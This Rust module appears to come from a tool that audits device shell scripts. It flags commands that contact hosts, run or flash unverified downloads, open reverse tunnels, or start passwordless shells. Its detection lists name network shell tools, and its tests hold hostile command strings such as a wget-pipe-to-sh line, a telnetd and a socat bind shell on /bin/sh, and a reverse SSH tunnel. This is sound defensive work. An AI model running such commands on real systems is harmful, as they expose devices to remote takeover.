//! What commands of a shell do with others: whom they contact, what they fetch and run unchecked, tunnels and shells that they open.
//!
//! Source: the programs' manuals (wget(1), curl(1), uclient-fetch, tftp and nc of BusyBox, ssh(1), openvpn(8), socat(1), telnetd of BusyBox).

use super::super::shell::{Command, base, is_fixed};
use super::contacts::{Host, of_word};

/// Something that a command does.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Act {
    /// It contacts a host.
    Contact {
        /// The program.
        by: String,
        /// The host.
        host: Host,
        /// The word that names it.
        word: Vec<u8>,
    },
    /// What it fetches over a way that anyone on it can change is run or written to flash memory, and nothing checks a signature.
    Unchecked {
        /// What fetches.
        by: String,
        /// From where, as it is written.
        from: Vec<u8>,
        /// What is done with it.
        then: String,
    },
    /// A tunnel by which the other side reaches this host.
    Tunnel {
        /// The program.
        by: String,
        /// To whom.
        to: String,
    },
    /// A shell that asks for no password.
    Shell {
        /// The program.
        by: String,
        /// The command.
        command: Vec<u8>,
    },
}

/// Programs that contact the host that a word names.
const CONTACT: [&[u8]; 25] = [
    b"wget",
    b"curl",
    b"uclient-fetch",
    b"tftp",
    b"ftpget",
    b"ftpput",
    b"ftp",
    b"ssh",
    b"autossh",
    b"scp",
    b"sftp",
    b"rsync",
    b"nc",
    b"netcat",
    b"telnet",
    b"ntpdate",
    b"ntpd",
    b"rdate",
    b"nslookup",
    b"dbclient",
    b"mosquitto_pub",
    b"mosquitto_sub",
    b"openvpn",
    b"ping",
    b"lftp",
];

const SHELLS: [&[u8]; 7] = [b"sh", b"ash", b"bash", b"dash", b"hush", b"ksh", b"source"];

/// What some commands do, each with its number.
pub fn acts(commands: &[Command]) -> Vec<(usize, Act)> {
    let mut found = Vec::new();
    let verified = commands.iter().any(verifies);
    for (number, command) in commands.iter().enumerate() {
        let name = command.name();
        let by = || String::from_utf8_lossy(name).into_owned();
        if CONTACT.contains(&name) {
            for word in command.arguments().iter().filter(|word| !word.starts_with(b"-")) {
                // What is only known at run time may stand behind the host.
                if let Some(host) = of_word(word).filter(|host| named_plainly(word, host)) {
                    found.push((number, Act::Contact { by: by(), host, word: word.clone() }));
                }
            }
        }
        if let Some(act) = shell(command, name) {
            found.push((number, act));
        }
        if let Some(to) = tunnel(command, name) {
            found.push((number, Act::Tunnel { by: by(), to }));
        }
        if !verified
            && let Some(from) = fetches(command, name)
            && let Some(then) = used_later(commands, number, command, from)
        {
            found.push((number, Act::Unchecked { by: by(), from: from.to_vec(), then }));
        }
    }
    found
}

/// Whether the host stands in the word as it is, and is no file's name: with a scheme, a user or a port, or as an address, or with a
/// name that ends as hosts do.
fn named_plainly(word: &[u8], host: &Host) -> bool {
    const FILES: [&str; 30] = [
        "sh", "conf", "txt", "bin", "img", "log", "gz", "tgz", "zip", "xml", "json", "key", "pem", "crt",
        "py", "pid", "so", "lua", "html", "php", "cfg", "db", "tar", "lock", "tmp", "md", "xz", "list",
        "sig", "deb",
    ];
    match host {
        Host::Address(_) => true,
        Host::Name(name) => {
            word.windows(3).any(|part| part == b"://")
                || !FILES.iter().any(|end| name.rsplit('.').next() == Some(end))
        }
    }
}

fn verifies(command: &Command) -> bool {
    match command.name() {
        b"gpg" | b"gpgv" | b"usign" | b"signify" | b"minisign" | b"ucert" | b"fwtool" | b"verify"
        | b"sysupgrade-verify" => true,
        b"openssl" => command
            .arguments()
            .iter()
            .any(|word| matches!(word.as_slice(), b"-verify" | b"rsautl" | b"pkeyutl" | b"cms" | b"smime")),
        _ => false,
    }
}

/// What a command fetches over a way that can be changed: not TLS with certificates checked.
fn fetches<'c>(command: &'c Command, name: &[u8]) -> Option<&'c [u8]> {
    let unchecked = match name {
        b"wget" | b"uclient-fetch" => command.has(&["--no-check-certificate"]),
        b"curl" => {
            command.has(&["-k", "--insecure"])
                || command.arguments().iter().any(|word| {
                    word.starts_with(b"-")
                        && !word.starts_with(b"--")
                        && word.contains(&b'k')
                        && word.len() <= 6
                })
        }
        b"tftp" | b"ftpget" => {
            let mut words = command.arguments().iter().filter(|word| !word.starts_with(b"-"));
            return words.next().map(Vec::as_slice);
        }
        _ => return None,
    };
    command.arguments().iter().map(Vec::as_slice).find(|word| {
        word.starts_with(b"http://")
            || word.starts_with(b"ftp://")
            || (unchecked && word.windows(3).any(|part| part == b"://"))
    })
}

/// What becomes of the fetched file.
fn used_later(commands: &[Command], number: usize, command: &Command, from: &[u8]) -> Option<String> {
    let next = commands.get(number + 1);
    if let Some(next) = next.filter(|next| next.piped && SHELLS.contains(&next.name())) {
        return Some(format!("piped into {}", String::from_utf8_lossy(next.name())));
    }
    let written = match command.name() {
        b"curl" => command.option(&["-o", "--output"]),
        b"tftp" => command.option(&["-l"]).or(command.option(&["-r"])),
        b"ftpget" => {
            command.arguments().iter().filter(|word| !word.starts_with(b"-")).nth(1).map(Vec::as_slice)
        }
        _ => command.option(&["-O", "--output-document"]),
    };
    let file = written.unwrap_or_else(|| base(from.split(|&byte| byte == b'?').next().unwrap_or(from)));
    let short = base(file);
    if short.len() < 2 || file == b"-" || file == b"/dev/null" {
        return None;
    }
    let names_it = |word: &[u8]| {
        let word = word.strip_prefix(b"if=").or(word.strip_prefix(b"./")).unwrap_or(word);
        word == file || base(word) == short
    };
    commands.iter().skip(number + 1).take(200).find_map(|later| {
        let name = later.name();
        let given = later.arguments().iter().any(|word| names_it(word));
        let called = later.words.first().is_some_and(|word| word.contains(&b'/') && names_it(word));
        let what = match name {
            _ if called => "run",
            _ if !given => return None,
            b"." => "run",
            _ if SHELLS.contains(&name) => "run",
            b"chmod"
                if later.arguments().iter().any(|word| word.contains(&b'x') || word.starts_with(b"7")) =>
            {
                "made executable"
            }
            b"mtd" | b"sysupgrade" | b"flashcp" | b"nandwrite" | b"flash_eraseall" | b"fwupgrade"
            | b"upgrade" | b"ubiupdatevol" | b"mtd_write" | b"flash" | b"fwupdate" => {
                "written to flash memory"
            }
            b"dd" if later.arguments().iter().any(|word| word.starts_with(b"of=/dev/")) => {
                "written to flash memory"
            }
            b"opkg" | b"ipkg" | b"dpkg" | b"rpm" => "installed",
            b"insmod" | b"modprobe" => "loaded into the kernel",
            b"tar" | b"unzip" if later.arguments().iter().any(|word| word == b"/") => {
                "unpacked over the root"
            }
            _ => return None,
        };
        Some(format!("{what} by {}", String::from_utf8_lossy(if called { short } else { name })))
    })
}

fn tunnel(command: &Command, name: &[u8]) -> Option<String> {
    let words = command.arguments();
    match name {
        b"ssh" | b"autossh" | b"dbclient" => {
            let flag =
                |word: &[u8]| word.starts_with(b"-") && !word.starts_with(b"--") && !word.starts_with(b"-o");
            let reverse = words.iter().any(|word| flag(word) && word.contains(&b'R'));
            let to =
                words.iter().find(|word| word.contains(&b'@') && !word.starts_with(b"-")).map(Vec::as_slice);
            let to =
                to.or_else(|| words.iter().rev().find(|word| of_word(word).is_some()).map(Vec::as_slice));
            let to = to.filter(|to| reverse && is_fixed(to))?;
            Some(String::from_utf8_lossy(to).into_owned())
        }
        b"openvpn" => {
            let to = command.option(&["--remote"]).filter(|to| is_fixed(to))?;
            Some(String::from_utf8_lossy(to).into_owned())
        }
        b"wg" => {
            let at = words.iter().position(|word| word == b"endpoint")?;
            let to = words.get(at + 1).filter(|to| is_fixed(to))?;
            Some(String::from_utf8_lossy(to).into_owned())
        }
        _ => None,
    }
}

fn shell(command: &Command, name: &[u8]) -> Option<Act> {
    let is_shell = |word: &[u8]| SHELLS.contains(&base(word));
    let opens = match name {
        b"telnetd" | b"utelnetd" | b"in.telnetd" => command
            .option(&["-l", "-L"])
            .is_some_and(|word| is_shell(word.split(|&byte| byte == b' ').next().unwrap_or(word))),
        b"nc" | b"netcat" | b"ncat" => {
            let runs = command.option(&["-e", "-c", "--exec", "--sh-exec"]);
            runs.is_some_and(|word| is_shell(word.split(|&byte| byte == b' ').next().unwrap_or(word)))
        }
        b"socat" => {
            let all = command.arguments();
            let says = |start: &[&[u8]]| {
                all.iter().any(|word| start.iter().any(|start| word.to_ascii_uppercase().starts_with(start)))
            };
            says(&[b"TCP-LISTEN", b"TCP4-LISTEN", b"TCP:", b"UDP-LISTEN", b"OPENSSL-LISTEN"])
                && all.iter().any(|word| {
                    let word = word.to_ascii_lowercase();
                    (word.starts_with(b"exec:") || word.starts_with(b"system:"))
                        && word.split(|byte| matches!(byte, b':' | b',' | b' ' | b'\'' | b'"')).any(is_shell)
                })
        }
        b"adbd" | b"gdbserver" => {
            name == b"adbd" || command.arguments().iter().any(|word| word.contains(&b':'))
        }
        _ => return None,
    };
    opens.then(|| Act::Shell {
        by: String::from_utf8_lossy(name).into_owned(),
        command: command.words.join(&b' '),
    })
}

#[cfg(test)]
mod tests {
    use super::super::super::shell::commands;
    use super::*;

    fn of(text: &str) -> Vec<Act> {
        acts(&commands(text.as_bytes())).into_iter().map(|(_, act)| act).collect()
    }

    fn unchecked(text: &str) -> Vec<String> {
        of(text)
            .into_iter()
            .filter_map(|act| if let Act::Unchecked { then, .. } = act { Some(then) } else { None })
            .collect()
    }

    #[test]
    fn what_is_fetched_and_run() {
        assert_eq!(unchecked("wget -qO- http://a.b.org/x | sh"), ["piped into sh"]);
        assert_eq!(
            unchecked("wget http://$HOST/x.sh -O /tmp/x.sh\nchmod +x /tmp/x.sh"),
            ["made executable by chmod"]
        );
        assert_eq!(
            unchecked("F=/tmp/fw\ncurl -k -o $F https://a.b.org/fw\n[ -s $F ] && mtd write $F firmware"),
            ["written to flash memory by mtd"]
        );
        assert_eq!(unchecked("tftp -g -r fw.bin $SRV\n./fw.bin"), ["run by fw.bin"]);
        assert!(unchecked("curl -o /tmp/x https://a.b.org/x; sh /tmp/x").is_empty(), "by TLS");
        assert!(
            unchecked("wget http://a.b.org/x -O /tmp/x; usign -V -m /tmp/x -p k; sh /tmp/x").is_empty(),
            "signed"
        );
        assert!(unchecked("wget http://a.b.org/x -O /tmp/x; cat /tmp/x").is_empty());
    }

    #[test]
    fn shells_and_tunnels() {
        assert!(matches!(of("telnetd -p 2323 -l /bin/sh").as_slice(), [Act::Shell { .. }]));
        assert!(of("telnetd -l /bin/login").is_empty());
        assert!(matches!(of("socat TCP-LISTEN:99,fork EXEC:/bin/sh").as_slice(), [Act::Shell { .. }]));
        assert!(
            of("ssh -R 22:localhost:22 t@relay.fleet-grid.org")
                .contains(&Act::Tunnel { by: "ssh".to_owned(), to: "t@relay.fleet-grid.org".to_owned() })
        );
        assert!(!of("ssh t@relay.fleet-grid.org -v").iter().any(|act| matches!(act, Act::Tunnel { .. })));
    }
}
